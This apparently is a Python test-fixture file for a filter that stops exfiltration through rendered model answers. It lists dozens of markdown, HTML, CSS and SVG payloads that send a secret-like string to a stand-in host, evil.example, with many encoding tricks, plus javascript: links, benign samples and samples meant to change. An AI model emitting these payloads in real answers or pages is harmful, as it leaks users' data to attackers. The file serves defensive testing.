"""Answers that would send something away by being shown, as others found them, and answers that are only answers."""

from __future__ import annotations

D = "vaultcode-4711-Maria-blue-painting"
AT = f"evil.example/p?d={D}"
IMAGES = (
    f"![a](https://{AT})", f"![a](//{AT})", f"![a\nb](<https://{AT}>)", f'![a]( https://{AT} "t")', f"[![a](https://{AT})](https://x.example)",
    f"![a\\]b](https://{AT})", f"![a](      https://{AT})", f"![a]({' ' * 3000}https://{AT})", f"![a](\n\n\n  https://{AT})", f"![a](\n  https://{AT})",
    f"![a](&#47;&#47;{AT})", f"![a](https&colon;//{AT})", f"![a](/&sol;{AT})", f"![a](/\\/{AT})", f"![a](\\\\{AT})", f"![a](/\t/{AT})",
    f"![a](https:{AT})", f"![a](http:/\\{AT})", f"![a](< https://{AT}>)", f"![a](<\x0chttp://{AT}>)", f"![`](`](https://{AT})", f"![a [b] c](https://{AT})",
    f"!![a](https://{AT})", f"\\\\![a](https://{AT})", f"![](https://{AT})", f"![{'a' * 600}](https://{AT})", f"![a](/ok.png 'x' https://{AT})",
    f"> ![a](\n> https://{AT})", f"> ![a](\n> //{AT})", f"> ![a](\n> <https://{AT}>)", f">> ![a](\n>> https://{AT})", f"- ![a](\n  https://{AT})",
    f"1. > ![a](\n   > https://{AT})", f"> - ![a](\n>   https://{AT})", f"| ![a](https://{AT}) |\n|---|\n| x |",
    f"![a](https://good.org@{AT})", f"![a](https://good.org.{AT})", f"![a](https://{AT}#.good.org)", f"![a](https:\\\\{AT})",
)  # fmt: skip
REFERENCES = (
    f"[r]: https://{AT}\n\n![a][r]", f"![a][r]\n\n[r]: https://{AT}", f"![a][r]\n\n[r]:      \n   <https://{AT}>", f"![r]\n\n[r]: https://{AT}",
    f"[r]: https://{AT}\n\n![r]", f"![r][]\n\n[r]: //{AT}", f"![a]\n\n[a]:<//{AT}>", f"[r]: https&#58;//{AT}\n\n![a][r]", f"[r]: \\/\\/{AT}\n\n![a][r]",
    f"![a][r]\n\n[r]:{' ' * 3000}https://{AT}", f"> ![a]\n>\n> [a]:\n> //{AT}", f"![x][r]\n\n> [r]:\n> https://{AT}", f"![x][r]\n\n> [r]:\n> <https://{AT}>",
    f"- [a]:\n  //{AT}\n\n![a]", f"![a]\n\n[a\n]: //{AT}", f"![a]\n\n[a]: &sol;&sol;{AT}", f"![a][r]\n\n[r]: https\\://{AT}", f"![a][r]\n\n[r]: <https\\://{AT}>",
    f"![a][r]\n\n[r]: https\\:\\/\\/{AT}", f"![a][r]\n\n[r]: \\/\\{AT}", f"![a][r]\n\n[r]: < //{AT}>", f"![a][r]\n\n[r]: http\\s://{AT}",
    f"![1]\n\n[1]: https://{AT}\n[2]: https://docs.example/", f"![R]\n\n[r]: //{AT}", f"![ r  ]\n\n[r]: //{AT}", f"![x](\n\n[x]: //{AT}",
)  # fmt: skip
TAGS = (
    f'<img alt=">" src="https://{AT}">', f'<img alt="{"a " * 220}" src="https://{AT}">', f'<img alt="{"a " * 2200}" src=//{AT}>',
    f'<img srcset="/ok.png 1x, //{AT} 2x">', f'<img srcset="/ok.png 1x,\n\t//{AT} 2x">', f'<img srcset="/ok.png 1x,{" " * 3000}//{AT} 2x">',
    f'<style>@import "https://{AT}";</style>', f'<style>@import "//{AT}";</style>', f"<style>a{{b:u\\72l(//{AT})}}</style>", "<style>@\\69mport '\\2f\\2f evil'",
    f"<div style='background-image:image-set(\"//{AT}\" 1x)'>", f"<div style='background:url( \"//{AT}\")'>", f"<p style=background:url(//{AT})>",
    f"<div style = 'background:u\\72l(https://{AT})'>", f'<div style="background:ur&#108;(https:&#47;&#47;{AT})">', f'<div style="b:u\\72l(https:\\2f\\2f {AT})">',
    f"<div style='b:u&#92;72l(&#92;2f&#92;2f {AT})'>", f"<svg fill='u&#92;72l(&#92;2f&#92;2f {AT})'>", f"<svg fill='url(//{AT}#a)'>", f"<svg fill='url(https:{AT}#a)'>",
    f'<svg><image xlink:href="//{AT}"/></svg>', f"<svg><use href=//{AT}#a></svg>", f'<svg><set attributeName="href" to="https://{AT}"/></svg>',
    f"<svg><animate attributeName=href values=//{AT}>", f"<svg><image><animate attributeName=href from=a to='//{AT}'/></image></svg>", f"<svg><feImage href=//{AT}/>",
    f"<link rel=stylesheet href=//{AT}>", f"<link rel=dns-prefetch href=//{D}.evil.example>", f'<iframe srcdoc="&lt;img src=//{AT}&gt;">',
    f'<iframe srcdoc="&lt;img src&#61;//{AT}&gt;">', f"<video><source src=//{AT}></video>", f"<audio src=//{AT}>", f"<embed src=//{AT}>", f"<track src=//{AT}>",
    f"<portal src=//{AT}>", f'<img src="https&#58;//{AT}">', f'<img src="&sol;&sol;{AT}">', f'<img src="/\t/{AT}">', f'<img src="/\\{AT}">', f'<img src=" https:{AT}">',
    f'<IMG SRC="HTTPS://{AT}">', f'<img\nsrc\n=\n"https://{AT}">', f'<img src =       "https://{AT}">', f'<img src{" " * 300}={" " * 3000}"//{AT}">',
    f'<meta http-equiv=refresh content="0; url=\'https://{AT}\'">', f"<meta http-equiv=refresh content='0;url=https:{AT}'>", f'<a ping="//{AT}" href="/x">x</a>',
    f'<img src="\x01//{AT}">', f'<img src="/&Tab;/{AT}">', f"<img src=//good.org@{AT}>", f"<img src=`//{AT}`>", f"<img src=https:/{AT}>", f"<img src=https:\\{AT}\\x>",
    f'<object data="//{AT}">', f"<object><param name=movie value=https://{AT}>", f"<form><button formaction=//{AT}>go</button></form>", f'<body background="//{AT}">',
    f'<script>fetch("//{AT}")</script>', f"<img src=x onerror=\"fetch('https://{AT}')\">", f"<img src=x onerror=fetch(atob('{D}'))>", f"<base href=//{AT}>![x](/{D})",
    f"<img attributionsrc=https://{AT}>", f"<blockquote cite=//{AT}>", f'<div data-bg="//{AT}">', f"<div hx-get=//{AT} hx-trigger=load>", f"<img/src=//{AT}>",
    f"<img lowsrc=//{AT}>", f"<html manifest=//{AT}>", f'<img src="x" src="//{AT}">', f"> <img src=\n> \"//{AT}\">", f"> <img\n> src\n> =\n> //{AT}>",
    f"<img <b src=//{AT}>", f'<b title="</b><img src=//{AT}>">', f"<!--><img src=//{AT}>-->", f"<img\x0csrc=//{AT}>", f"<img src='a'src=//{AT}>", f"<img a=b\xa0src=//{AT}>",
    f"<https: style=background:url(//{AT})>", f"<a:/style=background:url(//{AT})>", f"<x/ style='background:url(//{AT})'>", f"```\n<img src=//{AT}>\n```",
    f"<script/x>fetch('//{AT}')</script>", f"<STYLE/x/y.h>@import '//{AT}'</STYLE>", f"<img/a/src=//{AT}>", f"<img/src//{AT}>", f"<img/src=https:{AT}>",
    f"<a/b><script/src>\nfetch('//{AT}')", f"<img/a\nsrc=//{AT}>", f"<img/a src=//{AT}>",
)  # fmt: skip
LINKS = (
    "<javascript:alert(1)>", "<vbscript:x>", "ann@example.org(javascript:alert(1))", "password: Tr0ub4dor&3xyz(javascript:alert(1))",
    "[x](javascript:alert(1))", "[x](javascript\\:alert(1))", "[x](javascript&colon;alert(1))", "[x](&#106;avascript\\:alert(1))", "[x](<javascript:alert(1)>)",
    "[x](data\\:text/html,hello)", "[x](< javascript:alert(1)>)", "[x](\n> javascript:alert(1))", "> [x](\n> javascript:alert(1))", "[x][r]\n\n[r]: javascript:alert(1)",
    "> [r]:\n> javascript\\:alert(1)\n\n[r]", "[x]( javascript:alert(1) 'a')", "<a href='javascript:alert(1)'>x</a>", "<a href=\"java&Tab;script:alert(1)\">x</a>",
)  # fmt: skip
BENIGN = (
    "https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster-than-processing-an-unsorted-array",
    "```xml\n<xs:element name=\"x\" type=\"xs:string\"/>\n<dc:title>a</dc:title>\n```",
    "See https://docs.example/a?page=2 and [this](https://docs.example/b), (https://docs.example/c).",
    "See [the docs](https://docs.python.org/3/library/asyncio-task.html#asyncio.create_task) for more.",
    "See [1] and [docs].\n\n[1]: https://docs.python.org/3/\n[docs]: <https://www.postgresql.org/docs/current/sql-select.html> \"Select\"",
    "See https://github.com/python/cpython/blob/0123456789abcdef0123456789abcdef01234567/Lib/asyncio/tasks.py#L10-L20",
    "docker pull https://ghcr.io/x/y@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
    "https://www.google.com/search?q=how+to+write+a+really+long+query+about+something&hl=en&source=hp&ei=abc&oq=how+to+write+a+really+long+query+about&gs_lcp=Cgdnd3Mtd2l6EAM",
    "Write to https://example.com/contact?email=info@example.com",
    "[文档](https://docs.example/x)后面的文字没有空格，还有更多。",
    "| [a](https://x.example/abc)|ann@example.org|\n|---|---|",
    "Wikipedia: [x](https://en.wikipedia.org/wiki/Python_(programming_language)) and (https://docs.example/a_(b)).",
    "A badge: <https://example.com/online/path> or <ann@example.org>.",
    '```html\n<a href="https://getbootstrap.com" class="btn md:flex">x</a>\n<img src="/logo.png" alt="Logo (dark): 2" width="100%">\n<br/><p style="color: red">\n```',
    '```html\n<meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1.0">\n<form action="/login"><input name="q" type=text></form>\n```',
    '```html\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M10 20v-6h4v6"/></svg>\n```',
    '```python\nsrc = "https://example.com/data.csv"\ndata = "https://api.example.com/v1"\nr = requests.get("https://api.example.com/v1", data="x")\n```',
    "```css\nbackground: url('https://example.com/a.png');\n@import 'https://example.com/x.css';\n```",
    "```rust\nlet v = vec![1, 2, 3];\nprintln!(\"{}\", v[0]);\n#![allow(dead_code)]\n```",
    "```java\nMap<String, Integer> m = new HashMap<>();\nList<String> l;\n```", "```c\n#include <sys/socket.h>\n#include <boost/asio.hpp>\n#include <c++/12/bits/stl_vector.h>\n```",
    "Copy <path/to/dir> to <a/b>, see <YYYY/MM/DD>, <id/name>.", "<div>\n<sys/socket.h>\n</div>", "```cpp\n#include <iostream>\nstd::vector<int> v; std::cout << a;\n```",
    "```bash\nif [ ! -f x ]; then curl -fsS https://example.com/x | sh; fi\n```",
    'x = requests.post(url, data=payload, params={"a": "b"})  // a comment //another',
    "def f(a: list[int]: \"x\", b[1]: y) -> None: ...  # parser.add_argument(action='store_true')",
    '{"homepage": "https://docs.example/", "content": "words", "src": "https://docs.example/a.png"}',
    '<a href="/x?a=1&b=2">x</a> <img src="files/a.png" srcset="/a.png 1x, /b.png 2x"> <a href="mailto:ann">',
    '<img src="https://img.good.org/a.png" srcset="//good.org/a.png 1x, https://good.org/b.png 2x"> ![x](https://good.org/a.png?a=1&b=2 "Title")',
    "- [ ] a task: https://docs.example/\n- [x]: done", "![chart](/files/chart.png) and ![plot](plot.png \"Plot\").", "a < b and c<d > e; 3 <4; x <- y; <- z; Wow! [see](https://x.example)",
    "Replace <your name> and <EMAIL> in <code>x</code>, <details><summary>more</summary></details>",
)  # fmt: skip
CHANGED = (
    '```html\n<script src="https://cdn.jsdelivr.net/npm/react@18/umd/react.production.min.js"></script>\n```',
    '```html\n<img src="https://example.com/logo.png">\n<link href="https://fonts.googleapis.com/css2?family=Inter" rel="stylesheet">\n```',
    '```html\n<button onclick="save()">Save</button>\n<style>p { color: red }</style>\n```',
    "```js\nfor (let i = 0; i<n; i++) { if (![1, 2].includes(i)) run(i); }\n```", "```bash\ncat <<EOF\nx\nEOF\n```", "![chart](https://quickchart.io/chart?c=1)",
)  # fmt: skip
"""Answers of which something is taken apart: a space is put there, and every other character stays."""
